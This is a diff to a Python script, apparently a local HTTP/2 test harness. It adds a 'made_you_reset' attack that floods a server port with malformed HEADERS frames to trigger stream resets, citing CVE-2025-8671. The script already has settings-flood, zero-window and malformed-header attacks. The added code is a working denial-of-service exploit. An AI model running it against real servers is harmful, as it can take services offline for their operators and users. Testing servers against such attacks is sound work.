@@ -11,6 +11,8 @@ Usage: h2_attacks.py PORT ATTACK [ARG]
   settings_flood [N]   N SETTINGS, default 1000
   zero_window PATH     asks for PATH with an initial window of 0 and never opens it
   bad_header NAME VALUE  a request with one malformed field (sent without hpack's checks)
+  made_you_reset [N]   N malformed requests, each making the server reset its stream
+                       ("MadeYouReset", CVE-2025-8671), default 1000
 Every read is bounded (20 s).
 """
 import socket
@@ -187,6 +189,18 @@ def bad_header(port, name, value):
     print(first_answer(client), flush=True)
 
 
+def made_you_reset(port, count=1000):
+    client = Raw(port)
+    frames = []
+    for index in range(count):
+        headers = HeadersFrame(1 + 2 * index, client.block("/", [(b"X-Upper", b"v")]))
+        headers.flags.add("END_HEADERS")
+        headers.flags.add("END_STREAM")
+        frames.append(headers)
+    client.send(*frames)
+    print("%s after %d malformed requests" % (until_goaway(client), count), flush=True)
+
+
 if __name__ == "__main__":
     port, attack = int(sys.argv[1]), sys.argv[2]
     argument = sys.argv[3] if len(sys.argv) > 3 else None
@@ -206,5 +220,7 @@ if __name__ == "__main__":
         zero_window(port, argument)
     elif attack == "bad_header":
         bad_header(port, sys.argv[3], sys.argv[4])
+    elif attack == "made_you_reset":
+        made_you_reset(port, int(argument or 1000))
     else:
         sys.exit("unknown attack " + attack)
